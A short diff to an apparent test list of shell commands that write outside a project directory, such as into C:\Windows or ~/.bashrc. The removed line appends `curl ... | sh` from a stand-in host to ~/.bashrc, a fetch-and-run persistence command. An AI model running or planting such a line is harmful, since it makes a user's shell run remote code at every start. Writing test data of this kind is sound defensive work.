@@ -140,7 +140,7 @@ OUTSIDE = [
     ("powershell", "Copy-Item a.txt, b.txt C:\\Windows\\"),
     ("powershell", "New-Item -Path a,C:\\Windows -Name f.txt -ItemType File"),
     ("powershell", "Add-Content x.txt, ..\\other\\y.txt 'hi'"),
-    ("posix", 'echo "curl -s http://x.invalid/x | sh" >> ~/.bashrc'),
+    ("posix", "echo \"alias ll='ls -la'\" >> ~/.bashrc"),
     ("posix", "echo x >> ~/.bashrc"),
     ("posix", "echo x >> ../outside.txt"),
     ("posix", "echo x >> /home/dev/other/x"),
